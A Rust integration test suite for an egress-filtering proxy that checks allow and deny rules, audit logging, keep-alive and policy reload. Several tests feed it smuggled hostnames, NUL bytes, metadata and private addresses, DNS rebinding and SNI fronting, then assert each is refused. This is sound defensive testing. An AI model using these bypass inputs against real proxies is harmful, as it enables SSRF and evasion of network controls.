//! warden-egress integration tests: real sockets, a real upstream HTTP server, a real
//! TLS server (`openssl s_server`), `curl` as the client, and attacks on each rule.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use bytes::Bytes;
use http_body_util::Full;
use hyper::{Request, Response};
use hyper_util::rt::TokioIo;
use serde_json::Value;
use std::collections::HashMap;
use std::convert::Infallible;
use std::net::{IpAddr, SocketAddr};
use std::path::PathBuf;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream, UdpSocket};
use warden_audit::AuditLog;
use warden_egress::{
    Egress, EgressConfig, Identity, Lookup, Resolve, StaticResolver, serve_dns, serve_proxy,
};
use warden_policy::{Policy, Principal};

mod intercept;

// ---------------------------------------------------------------- harness

struct H {
    _dir: tempfile::TempDir,
    policy_path: PathBuf,
    audit_path: PathBuf,
    egress: Egress,
    proxy: SocketAddr,
}

fn ip(s: &str) -> IpAddr {
    s.parse().unwrap()
}

/// The test resolver: `*.test` names to chosen addresses; nothing else resolves.
fn resolver() -> StaticResolver {
    StaticResolver::only()
        .insert("allowed.test", vec![ip("127.0.0.2")])
        .insert("api.test", vec![ip("127.0.0.2")])
        .insert("other.test", vec![ip("127.0.0.2")])
        .insert("blocked.test", vec![ip("127.0.0.2")])
        .insert("loopy.test", vec![ip("127.0.0.3")])
        .insert("meta.test", vec![ip("169.254.169.254")])
        .insert("priv.test", vec![ip("10.0.0.1")])
        .insert("mapped.test", vec![ip("::ffff:127.0.0.3")])
        .insert("mixed.test", vec![ip("127.0.0.2"), ip("192.168.1.1")])
}

async fn harness(policy: &str, resolver: Arc<dyn Resolve>) -> H {
    harness_with(policy, resolver, None).await
}

async fn harness_with(
    policy: &str,
    resolver: Arc<dyn Resolve>,
    interception: Option<Arc<warden_egress::Interception>>,
) -> H {
    let dir = tempfile::tempdir().unwrap();
    let policy_path = dir.path().join("policy.toml");
    std::fs::write(&policy_path, policy).unwrap();
    let audit_path = dir.path().join("audit.jsonl");
    let audit = AuditLog::open(&audit_path).unwrap();
    let p = Policy::load(&policy_path).unwrap_or_else(|e| panic!("{e}"));
    let egress = Egress::new(
        p,
        EgressConfig {
            identity: Identity {
                session: "s-test".into(),
                machine: "m-test".into(),
                user: "tester".into(),
            },
            principal: Principal::default(),
            policy_source: policy_path.display().to_string(),
            audit,
            resolver,
            connect_timeout: Duration::from_secs(3),
            interception: interception.clone(),
        },
    );
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let proxy = listener.local_addr().unwrap();
    tokio::spawn(serve_proxy(egress.clone(), listener));
    H {
        _dir: dir,
        policy_path,
        audit_path,
        egress,
        proxy,
    }
}

impl H {
    /// Every event so far (after flushing the group commit).
    fn events(&self) -> Vec<Value> {
        self.egress.audit().flush().unwrap();
        self.events_no_flush()
    }
    /// What is on disk right now, without waiting for the group commit. Only complete
    /// lines: one the proxy is appending while this reads has no newline yet (a CI run
    /// read half an event), and every complete line must parse.
    fn events_no_flush(&self) -> Vec<Value> {
        let text = std::fs::read_to_string(&self.audit_path).unwrap_or_default();
        let complete = text.rfind('\n').map_or("", |end| &text[..end]);
        complete
            .lines()
            .map(|l| serde_json::from_str(l).unwrap())
            .collect()
    }
    fn find(&self, pred: impl Fn(&Value) -> bool) -> Vec<Value> {
        self.events().into_iter().filter(|e| pred(e)).collect()
    }
}

/// An upstream HTTP server on `addr` that echoes what it received.
async fn http_upstream(addr: &str) -> SocketAddr {
    let listener = TcpListener::bind(addr).await.unwrap();
    let local = listener.local_addr().unwrap();
    tokio::spawn(async move {
        loop {
            let Ok((s, _)) = listener.accept().await else {
                return;
            };
            tokio::spawn(async move {
                let svc =
                    hyper::service::service_fn(|req: Request<hyper::body::Incoming>| async move {
                        let names: Vec<String> = req
                            .headers()
                            .keys()
                            .map(|k| k.as_str().to_string())
                            .collect();
                        let host = req
                            .headers()
                            .get("host")
                            .and_then(|h| h.to_str().ok())
                            .unwrap_or("")
                            .to_string();
                        let body = format!(
                            "upstream saw {} {} host={} headers={}",
                            req.method(),
                            req.uri(),
                            host,
                            names.join(",")
                        );
                        Ok::<_, Infallible>(Response::new(Full::new(Bytes::from(body))))
                    });
                let _ = hyper::server::conn::http1::Builder::new()
                    .serve_connection(TokioIo::new(s), svc)
                    .await;
            });
        }
    });
    local
}

/// A TCP server that records the first bytes of each connection and answers
/// "banner\n" first (a server-speaks-first protocol, like SSH).
async fn raw_upstream(addr: &str) -> (SocketAddr, Arc<Mutex<Vec<Vec<u8>>>>) {
    let listener = TcpListener::bind(addr).await.unwrap();
    let local = listener.local_addr().unwrap();
    let seen = Arc::new(Mutex::new(Vec::new()));
    let s2 = seen.clone();
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            let seen = s2.clone();
            tokio::spawn(async move {
                let _ = s.write_all(b"banner\n").await;
                let mut buf = vec![0u8; 65536];
                let mut all = Vec::new();
                while let Ok(Ok(n)) =
                    tokio::time::timeout(Duration::from_millis(500), s.read(&mut buf)).await
                {
                    if n == 0 {
                        break;
                    }
                    all.extend_from_slice(&buf[..n]);
                    let _ = s.write_all(&buf[..n]).await;
                }
                seen.lock().unwrap().push(all);
            });
        }
    });
    (local, seen)
}

/// `curl` through the proxy: (status, body).
async fn curl(proxy: SocketAddr, args: &[&str]) -> (u16, String) {
    let out = tokio::process::Command::new("curl")
        .args(["-s", "-S", "--max-time", "10", "-x"])
        .arg(format!("http://{proxy}"))
        .args(["-w", "\n%{http_code}"])
        .args(args)
        .output()
        .await
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout).into_owned();
    let (body, code) = text.rsplit_once('\n').unwrap_or(("", &text));
    (code.trim().parse().unwrap_or(0), body.to_string())
}

/// Send raw bytes to the proxy and read what comes back until close or a pause.
async fn raw(proxy: SocketAddr, bytes: &[u8]) -> String {
    let mut s = TcpStream::connect(proxy).await.unwrap();
    s.write_all(bytes).await.unwrap();
    read_some(&mut s).await
}

async fn read_some(s: &mut TcpStream) -> String {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(Ok(n)) = tokio::time::timeout(Duration::from_millis(1500), s.read(&mut buf)).await
    {
        if n == 0 {
            break;
        }
        out.extend_from_slice(&buf[..n]);
    }
    String::from_utf8_lossy(&out).into_owned()
}

fn status_of(resp: &str) -> u16 {
    resp.split(' ')
        .nth(1)
        .and_then(|c| c.parse().ok())
        .unwrap_or(0)
}

fn policy(allow: &[String], extra: &str) -> String {
    let list: Vec<String> = allow.iter().map(|a| format!("  \"{a}\",")).collect();
    format!(
        "version = 1\nname = \"test\"\n{extra}\n[network]\nallow = [\n{}\n]\ndeny = [\"blocked.test\"]\n",
        list.join("\n")
    )
}

// ---------------------------------------------------------------- explicit proxy

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn http_forwarding_allows_denies_and_audits() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    let h = harness(
        &policy(
            &[
                format!("allowed.test:{p}"),
                format!("blocked.test:{p}"),
                format!("127.0.0.2/32:{p}"),
            ],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;

    // Allowed, with a Proxy-Authorization that must not reach upstream.
    let (code, body) = curl(
        h.proxy,
        &[
            "-U",
            "user:pw",
            "-H",
            "X-Custom: 1",
            &format!("http://allowed.test:{p}/hello?q=secret"),
        ],
    )
    .await;
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("upstream saw GET /hello?q=secret"), "{body}");
    assert!(body.contains(&format!("host=allowed.test:{p}")), "{body}");
    assert!(body.contains("x-custom"), "{body}");
    assert!(!body.contains("proxy-"), "proxy headers leaked: {body}");

    // Denied: not in allow; then deny beats allow.
    let (code, body) = curl(h.proxy, &[&format!("http://other.test:{p}/")]).await;
    assert_eq!(code, 403, "{body}");
    assert!(body.contains("default deny"), "{body}");
    assert!(
        body.contains(&format!("add \"other.test:{p}\" to [network] allow in ")),
        "{body}"
    );
    // The deny is on disk before the client saw the 403: no flush here.
    let on_disk = h.events_no_flush();
    assert!(
        on_disk
            .iter()
            .any(|e| e["target"] == format!("other.test:{p}") && e["decision"] == "deny"),
        "{on_disk:?}"
    );
    let (code, body) = curl(h.proxy, &[&format!("http://blocked.test:{p}/")]).await;
    assert_eq!(code, 403, "{body}");
    assert!(
        body.contains("policy.toml:"),
        "deny entry's line named: {body}"
    );

    // Port rules: the same host on another port is denied.
    let (code, _) = curl(
        h.proxy,
        &[&format!(
            "http://allowed.test:{}/",
            p.wrapping_add(1).max(1)
        )],
    )
    .await;
    assert_eq!(code, 403);

    // Audit: connect + close with bytes and duration; an http event without query.
    let evs = h.events();
    let connect: Vec<&Value> = evs
        .iter()
        .filter(|e| e["action"] == "connect" && e["decision"] == "allow")
        .collect();
    assert_eq!(connect.len(), 1, "{evs:#?}");
    let conn = connect[0]["conn"].clone();
    assert_eq!(connect[0]["address"], format!("127.0.0.2:{p}"));
    assert_eq!(connect[0]["host"], "allowed.test");
    assert_eq!(connect[0]["rule"], "policy.toml:6");
    let close: Vec<&Value> = evs
        .iter()
        .filter(|e| e["action"] == "close" && e["conn"] == conn)
        .collect();
    assert_eq!(close.len(), 1, "{evs:#?}");
    assert!(close[0]["bytes_up"].as_u64().unwrap() > 20);
    assert!(close[0]["bytes_down"].as_u64().unwrap() > 20);
    assert!(close[0]["duration_ms"].is_u64());
    let http: Vec<&Value> = evs.iter().filter(|e| e["action"] == "http").collect();
    assert!(!http.is_empty());
    assert!(
        evs.iter().all(|e| !e.to_string().contains("secret")),
        "query leaked into audit"
    );
    assert!(evs.iter().all(|e| e["session"] == "s-test" && e["policy"].as_str().unwrap().starts_with("test@")));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn special_addresses_need_an_explicit_ip_entry() {
    let up2 = http_upstream("127.0.0.2:0").await;
    let p = up2.port();
    let up3 = http_upstream(&format!("127.0.0.3:{p}")).await;
    assert_eq!(up3.port(), p);
    let h = harness(
        &policy(
            &[
                "allowed.test:*".into(),
                "loopy.test:*".into(),
                "meta.test:*".into(),
                "priv.test:*".into(),
                "mapped.test:*".into(),
                "mixed.test:*".into(),
                format!("127.0.0.2/32:{p}"),
            ],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;
    // A name resolving to an explicitly allowed loopback address: allowed.
    let (code, body) = curl(h.proxy, &[&format!("http://allowed.test:{p}/")]).await;
    assert_eq!(code, 200, "{body}");
    // Names resolving to loopback, metadata, private, mapped loopback, or a mix: denied.
    for name in [
        "loopy.test",
        "meta.test",
        "priv.test",
        "mapped.test",
        "mixed.test",
    ] {
        let (code, body) = curl(h.proxy, &[&format!("http://{name}:{p}/")]).await;
        assert_eq!(code, 403, "{name}: {body}");
        assert!(body.contains("resolves to"), "{name}: {body}");
    }
    // IP literals: an address without an IP entry, and its IPv4-mapped spelling.
    for url in [
        format!("http://127.0.0.3:{p}/"),
        format!("http://[::ffff:127.0.0.3]:{p}/"),
        format!("http://[::ffff:7f00:3]:{p}/"),
    ] {
        let (code, body) = curl(h.proxy, &["-g", &url]).await;
        assert_eq!(code, 403, "{url}: {body}");
    }
    let (code, body) = curl(h.proxy, &[&format!("http://127.0.0.2:{p}/")]).await;
    assert_eq!(code, 200, "{body}");
    // Same through CONNECT.
    for target in [format!("[::ffff:127.0.0.3]:{p}"), format!("loopy.test:{p}")] {
        let resp = raw(
            h.proxy,
            format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status_of(&resp), 403, "{target}: {resp}");
    }
    let denies = h.find(|e| e["decision"] == "deny" && e["action"] == "connect");
    assert!(
        denies.iter().any(|e| e["address"] == "169.254.169.254"),
        "{denies:#?}"
    );
    assert!(denies.iter().all(|e| e["enforced"] == true));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostname_tricks_are_refused() {
    let (up, seen) = raw_upstream("127.0.0.2:0").await;
    let p = up.port();
    let h = harness(
        &policy(
            &[format!("allowed.test:{p}"), format!("127.0.0.2/32:{p}")],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;
    // Canonical spellings of the allowed name work.
    for target in [format!("ALLOWED.test:{p}"), format!("allowed.test.:{p}")] {
        let resp = raw(
            h.proxy,
            format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status_of(&resp), 200, "{target}: {resp}");
        assert!(
            resp.contains("banner"),
            "server-first protocol relayed: {resp}"
        );
    }
    // Tricks: userinfo, backslash, percent-encoding, NUL, unbracketed IPv6.
    for target in [
        format!("allowed.test@evil.test:{p}"),
        format!("evil.test@allowed.test:{p}"),
        format!("allowed.test\\evil.test:{p}"),
        format!("allowed%2etest:{p}"),
        format!("allowed.test%00.evil.test:{p}"),
    ] {
        let resp = raw(
            h.proxy,
            format!("CONNECT {target} HTTP/1.1\r\n\r\n").as_bytes(),
        )
        .await;
        let code = status_of(&resp);
        assert!(code == 400 || code == 403, "{target}: {resp}");
    }
    let mut nul = b"CONNECT allowed.test".to_vec();
    nul.push(0);
    nul.extend_from_slice(format!(".evil.test:{p} HTTP/1.1\r\n\r\n").as_bytes());
    let resp = raw(h.proxy, &nul).await;
    assert!(matches!(status_of(&resp), 400 | 403), "{resp}");
    // Absolute URIs with the same tricks.
    for url in [
        format!("http://allowed.test@evil.test:{p}/"),
        format!("http://allowed.test:{p}@evil.test/"),
        format!("http://allowed%2etest:{p}/"),
    ] {
        let resp = raw(
            h.proxy,
            format!("GET {url} HTTP/1.1\r\nHost: allowed.test:{p}\r\n\r\n").as_bytes(),
        )
        .await;
        assert!(matches!(status_of(&resp), 400 | 403), "{url}: {resp}");
    }
    // Only the two allowed CONNECTs ever reached upstream.
    tokio::time::sleep(Duration::from_millis(700)).await;
    assert_eq!(seen.lock().unwrap().len(), 2);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn sni_must_match_the_connect_host() {
    let (up, seen) = raw_upstream("127.0.0.2:0").await;
    let p = up.port();
    let h = harness(
        &policy(
            &[format!("allowed.test:{p}"), format!("127.0.0.2/32:{p}")],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;
    // Matching SNI (split over several records) passes through untouched.
    let hello = warden_egress::sni::build_client_hello(Some("Allowed.Test"), 20);
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(format!("CONNECT allowed.test:{p} HTTP/1.1\r\n\r\n").as_bytes())
        .await
        .unwrap();
    s.write_all(&hello).await.unwrap();
    let got = read_some(&mut s).await;
    assert!(got.starts_with("HTTP/1.1 200"), "{got}");
    drop(s);
    // Fronting: SNI names another host.
    let hello = warden_egress::sni::build_client_hello(Some("evil.test"), 500);
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(format!("CONNECT allowed.test:{p} HTTP/1.1\r\n\r\n").as_bytes())
        .await
        .unwrap();
    s.write_all(&hello).await.unwrap();
    let _ = read_some(&mut s).await;
    drop(s);
    tokio::time::sleep(Duration::from_millis(800)).await;
    let seen = seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 2, "both connections were dialled");
    assert_eq!(
        seen.iter()
            .filter(|b| b.as_slice() == hello.as_slice())
            .count(),
        0,
        "fronted hello never sent upstream"
    );
    assert!(
        seen.iter().any(|b| b.len() > 20 && b[0] == 0x16),
        "matching hello relayed"
    );
    let tls = h.find(|e| e["action"] == "tls");
    assert_eq!(tls.len(), 1, "{tls:#?}");
    assert_eq!(tls[0]["decision"], "deny");
    assert_eq!(tls[0]["sni"], "evil.test");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn real_tls_through_connect_with_curl() {
    let dir = tempfile::tempdir().unwrap();
    let key = dir.path().join("k.pem");
    let cert = dir.path().join("c.pem");
    let st = std::process::Command::new("openssl")
        .args([
            "req",
            "-x509",
            "-newkey",
            "rsa:2048",
            "-nodes",
            "-days",
            "1",
            "-subj",
            "/CN=allowed.test",
        ])
        .arg("-keyout")
        .arg(&key)
        .arg("-out")
        .arg(&cert)
        .output()
        .unwrap();
    assert!(st.status.success());
    let port = {
        let l = std::net::TcpListener::bind("127.0.0.2:0").unwrap();
        l.local_addr().unwrap().port()
    };
    let mut server = tokio::process::Command::new("openssl")
        .args(["s_server", "-www", "-quiet", "-accept"])
        .arg(format!("127.0.0.2:{port}"))
        .arg("-key")
        .arg(&key)
        .arg("-cert")
        .arg(&cert)
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .kill_on_drop(true)
        .spawn()
        .unwrap();
    for _ in 0..50 {
        if TcpStream::connect(("127.0.0.2", port)).await.is_ok() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let h = harness(
        &policy(
            &[
                format!("allowed.test:{port}"),
                format!("127.0.0.2/32:{port}"),
            ],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;
    let (code, body) = curl(h.proxy, &["-k", &format!("https://allowed.test:{port}/")]).await;
    assert_eq!(code, 200, "{body}");
    assert!(body.contains("s_server"), "{body}");
    // curl puts the URL host in SNI; CONNECT to a denied host never gets that far.
    let (code, _) = curl(h.proxy, &["-k", &format!("https://other.test:{port}/")]).await;
    assert_ne!(code, 200);
    let _ = server.kill().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn host_header_and_http_rules() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    let extra = format!(
        "[[network.http]]\nhost = \"api.test:{p}\"\nmethods = [\"GET\"]\npaths = [\"/repos/acme/**\"]\n"
    );
    let pol = format!(
        "version = 1\nname = \"test\"\n[network]\nallow = [\"allowed.test:{p}\", \"127.0.0.2/32:{p}\"]\n{extra}"
    );
    let h = harness(&pol, Arc::new(resolver())).await;
    // Host disagreeing with the URI host (or port) is a 400.
    for host in [
        "evil.test".to_string(),
        format!("allowed.test:{}", p.wrapping_add(1)),
    ] {
        let resp = raw(
            h.proxy,
            format!("GET http://allowed.test:{p}/ HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes(),
        )
        .await;
        assert_eq!(status_of(&resp), 400, "{host}: {resp}");
    }
    let resp = raw(
        h.proxy,
        format!("GET http://allowed.test:{p}/ HTTP/1.1\r\nHost: ALLOWED.test.:{p}\r\n\r\n")
            .as_bytes(),
    )
    .await;
    assert_eq!(status_of(&resp), 200, "{resp}");
    // Method/path rules.
    let (code, body) = curl(
        h.proxy,
        &[&format!("http://api.test:{p}/repos/acme/widgets")],
    )
    .await;
    assert_eq!(code, 200, "{body}");
    let (code, _) = curl(
        h.proxy,
        &[
            "-X",
            "POST",
            &format!("http://api.test:{p}/repos/acme/widgets"),
        ],
    )
    .await;
    assert_eq!(code, 403);
    let (code, _) = curl(h.proxy, &[&format!("http://api.test:{p}/repos/other/x")]).await;
    assert_eq!(code, 403);
    let denies =
        h.find(|e| e["action"] == "http" && e["decision"] == "deny" && e["rule"] != "proxy");
    assert_eq!(denies.len(), 2, "{denies:#?}");
    // origin-form requests and https absolute URIs are not forwarded
    let resp = raw(h.proxy, b"GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n").await;
    assert_eq!(status_of(&resp), 400, "{resp}");
}

/// Answers differently on each call: the first answer is allowed, later ones are
/// metadata and private addresses.
struct Rebinding {
    calls: AtomicUsize,
}

impl Resolve for Rebinding {
    fn resolve<'a>(&'a self, _name: &'a str, _port: u16) -> Lookup<'a> {
        let n = self.calls.fetch_add(1, Ordering::SeqCst);
        Box::pin(async move {
            Ok(match n {
                0 => vec![ip("127.0.0.2")],
                1 => vec![ip("169.254.169.254")],
                _ => vec![ip("127.0.0.3")],
            })
        })
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn rebinding_dials_the_checked_address() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    let _up3 = http_upstream(&format!("127.0.0.3:{p}")).await;
    let r = Arc::new(Rebinding {
        calls: AtomicUsize::new(0),
    });
    let h = harness(
        &policy(
            &[format!("allowed.test:{p}"), format!("127.0.0.2/32:{p}")],
            "",
        ),
        r.clone(),
    )
    .await;
    let (code, _) = curl(h.proxy, &[&format!("http://allowed.test:{p}/")]).await;
    assert_eq!(code, 200);
    assert_eq!(r.calls.load(Ordering::SeqCst), 1, "resolved exactly once");
    for _ in 0..2 {
        let (code, body) = curl(h.proxy, &[&format!("http://allowed.test:{p}/")]).await;
        assert_eq!(code, 403, "{body}");
    }
    assert_eq!(r.calls.load(Ordering::SeqCst), 3);
    let evs = h.events();
    let dialled: Vec<&Value> = evs
        .iter()
        .filter(|e| e["action"] == "connect" && e["decision"] == "allow")
        .collect();
    assert_eq!(dialled.len(), 1);
    assert_eq!(dialled[0]["address"], format!("127.0.0.2:{p}"));
    assert_eq!(dialled[0]["addresses"], serde_json::json!(["127.0.0.2"]));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn audit_mode_records_but_does_not_block() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    let h = harness(
        &policy(&[format!("allowed.test:{p}")], "mode = \"audit\""),
        Arc::new(resolver()),
    )
    .await;
    // Not allowed, and resolving to loopback without an IP entry: both would deny.
    let (code, body) = curl(h.proxy, &[&format!("http://other.test:{p}/")]).await;
    assert_eq!(code, 200, "{body}");
    let evs = h.events();
    let would = evs.iter().filter(|e| e["decision"] == "deny").count();
    assert!(would >= 2, "{evs:#?}");
    assert!(
        evs.iter()
            .filter(|e| e["surface"] == "network")
            .all(|e| e["enforced"] == false)
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn reload_changes_new_decisions() {
    let up = http_upstream("127.0.0.2:0").await;
    let p = up.port();
    let h = harness(
        &policy(&[format!("127.0.0.2/32:{p}")], ""),
        Arc::new(resolver()),
    )
    .await;
    let url = format!("http://127.0.0.2:{p}/");
    assert_eq!(curl(h.proxy, &[&url]).await.0, 200);
    let before = h.egress.policy_id();
    std::fs::write(&h.policy_path, policy(&["allowed.test".into()], "")).unwrap();
    let p2 = Policy::load(&h.policy_path).unwrap();
    h.egress.reload(p2, h.policy_path.display().to_string());
    assert_ne!(h.egress.policy_id(), before);
    assert_eq!(curl(h.proxy, &[&url]).await.0, 403);
    assert!(!h.find(|e| e["action"] == "policy_reload").is_empty());
}

/// An upstream that answers every request with `conn=N` (N counts its TCP
/// connections from 1) and closes a connection idle for `idle`.
async fn counting_upstream(addr: &str, idle: Duration) -> SocketAddr {
    let listener = TcpListener::bind(addr).await.unwrap();
    let local = listener.local_addr().unwrap();
    let count = Arc::new(AtomicUsize::new(0));
    tokio::spawn(async move {
        loop {
            let Ok((mut s, _)) = listener.accept().await else {
                return;
            };
            let n = count.fetch_add(1, Ordering::SeqCst) + 1;
            tokio::spawn(async move {
                let mut buf = Vec::new();
                let mut chunk = [0u8; 4096];
                loop {
                    while !buf.windows(4).any(|w| w == b"\r\n\r\n") {
                        match tokio::time::timeout(idle, s.read(&mut chunk)).await {
                            Ok(Ok(k)) if k > 0 => buf.extend_from_slice(&chunk[..k]),
                            _ => return, // idle, closed or failed: close
                        }
                    }
                    let end = buf.windows(4).position(|w| w == b"\r\n\r\n").unwrap() + 4;
                    buf.drain(..end);
                    let body = format!("conn={n}");
                    let resp = format!(
                        "HTTP/1.1 200 OK\r\ncontent-length: {}\r\n\r\n{body}",
                        body.len()
                    );
                    if s.write_all(resp.as_bytes()).await.is_err() {
                        return;
                    }
                }
            });
        }
    });
    local
}

/// One keep-alive client connection to the proxy: GET `url`, (status, body).
async fn keepalive_get(s: &mut TcpStream, url: &str) -> (u16, String) {
    let host = url.trim_start_matches("http://").split('/').next().unwrap();
    let req = format!("GET {url} HTTP/1.1\r\nHost: {host}\r\n\r\n");
    s.write_all(req.as_bytes()).await.unwrap();
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    loop {
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
            let len: usize = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .map(|v| v.trim().parse().unwrap())
                .unwrap_or(0);
            if buf.len() >= end + 4 + len {
                let body = String::from_utf8_lossy(&buf[end + 4..end + 4 + len]).into_owned();
                return (status_of(&head), body);
            }
        }
        let k = tokio::time::timeout(Duration::from_secs(10), s.read(&mut chunk))
            .await
            .expect("the proxy answered in time")
            .unwrap();
        assert!(k > 0, "the proxy closed the connection; so far: {buf:?}");
        buf.extend_from_slice(&chunk[..k]);
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn keep_alive_reuses_the_upstream_connection_only_under_the_same_policy() {
    let idle = Duration::from_millis(300);
    let up = counting_upstream("127.0.0.2:0", idle).await;
    let p = up.port();
    let allow = format!("127.0.0.2/32:{p}");
    let h = harness(
        &policy(std::slice::from_ref(&allow), ""),
        Arc::new(resolver()),
    )
    .await;
    let url = format!("http://127.0.0.2:{p}/x");
    let mut c = TcpStream::connect(h.proxy).await.unwrap();

    // Three requests on one client connection: one upstream connection, one
    // connect decision, three http events.
    for _ in 0..3 {
        assert_eq!(keepalive_get(&mut c, &url).await, (200, "conn=1".into()));
    }
    let target = format!("127.0.0.2:{p}");
    let connects = h.find(|e| e["action"] == "connect" && e["target"] == target.as_str());
    assert_eq!(connects.len(), 1, "{connects:?}");
    let https = h.find(|e| e["action"] == "http" && e["decision"] == "allow");
    assert_eq!(https.len(), 3, "{https:?}");
    assert!(
        https.iter().all(|e| e["conn"] == connects[0]["conn"]),
        "{https:?}"
    );

    // A reload, even to a policy that still allows the host: the next request is
    // decided and dialled again under the new policy.
    let reload = |body: String| {
        std::fs::write(&h.policy_path, body).unwrap();
        let p2 = Policy::load(&h.policy_path).unwrap();
        h.egress.reload(p2, h.policy_path.display().to_string());
    };
    reload(policy(&[allow.clone(), "allowed.test".into()], ""));
    assert_eq!(keepalive_get(&mut c, &url).await, (200, "conn=2".into()));
    // ... and a policy that no longer allows it refuses the next request on the same
    // client connection, although an upstream connection to it is open.
    reload(policy(&["allowed.test".into()], ""));
    assert_eq!(keepalive_get(&mut c, &url).await.0, 403);
    // (A refusal closes the client connection.)
    reload(policy(std::slice::from_ref(&allow), ""));
    let mut c = TcpStream::connect(h.proxy).await.unwrap();

    // The upstream closes idle connections: the next request gets a new one.
    assert_eq!(keepalive_get(&mut c, &url).await, (200, "conn=3".into()));
    tokio::time::sleep(idle * 3).await;
    assert_eq!(keepalive_get(&mut c, &url).await, (200, "conn=4".into()));

    // Every upstream connection has its connect and close pair once the client is
    // gone.
    drop(c);
    let mut closes = Vec::new();
    for _ in 0..50 {
        closes = h.find(|e| e["action"] == "close" && e["target"] == target.as_str());
        if closes.len() == 4 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    let connects = h.find(|e| {
        e["action"] == "connect" && e["target"] == target.as_str() && e["decision"] == "allow"
    });
    assert_eq!(connects.len(), 4, "{connects:?}");
    assert_eq!(closes.len(), 4, "{closes:?}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn websocket_upgrade_over_plain_http() {
    // An upstream that answers 101 and then echoes.
    let listener = TcpListener::bind("127.0.0.2:0").await.unwrap();
    let p = listener.local_addr().unwrap().port();
    tokio::spawn(async move {
        let (mut s, _) = listener.accept().await.unwrap();
        let mut buf = vec![0u8; 4096];
        let mut req = Vec::new();
        while !req.windows(4).any(|w| w == b"\r\n\r\n") {
            let n = s.read(&mut buf).await.unwrap();
            req.extend_from_slice(&buf[..n]);
        }
        let text = String::from_utf8_lossy(&req).to_lowercase();
        assert!(text.contains("upgrade: websocket"), "{text}");
        s.write_all(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n")
            .await
            .unwrap();
        loop {
            let n = s.read(&mut buf).await.unwrap_or(0);
            if n == 0 {
                break;
            }
            s.write_all(&buf[..n]).await.unwrap();
        }
    });
    let h = harness(
        &policy(
            &[format!("allowed.test:{p}"), format!("127.0.0.2/32:{p}")],
            "",
        ),
        Arc::new(resolver()),
    )
    .await;
    let mut s = TcpStream::connect(h.proxy).await.unwrap();
    s.write_all(
        format!(
            "GET http://allowed.test:{p}/ws HTTP/1.1\r\nHost: allowed.test:{p}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    let mut buf = vec![0u8; 4096];
    let n = s.read(&mut buf).await.unwrap();
    let head = String::from_utf8_lossy(&buf[..n]).into_owned();
    assert!(head.starts_with("HTTP/1.1 101"), "{head}");
    s.write_all(b"ping-frame").await.unwrap();
    let n = tokio::time::timeout(Duration::from_secs(5), s.read(&mut buf))
        .await
        .unwrap()
        .unwrap();
    assert_eq!(&buf[..n], b"ping-frame");
}

// ---------------------------------------------------------------- DNS

/// Counts lookups: the DNS front end must never resolve anything.
struct Counting {
    calls: AtomicUsize,
}

impl Resolve for Counting {
    fn resolve<'a>(&'a self, _name: &'a str, _port: u16) -> Lookup<'a> {
        self.calls.fetch_add(1, Ordering::SeqCst);
        Box::pin(async { Ok(vec![ip("127.0.0.2")]) })
    }
}

fn dns_query(id: u16, name: &str, qtype: hickory_proto::rr::RecordType) -> Vec<u8> {
    use hickory_proto::op::{Message, MessageType, OpCode, Query};
    use hickory_proto::rr::Name;
    let mut m = Message::new(id, MessageType::Query, OpCode::Query);
    m.metadata.recursion_desired = true;
    m.add_query(Query::query(Name::from_ascii(name).unwrap(), qtype));
    m.to_vec().unwrap()
}

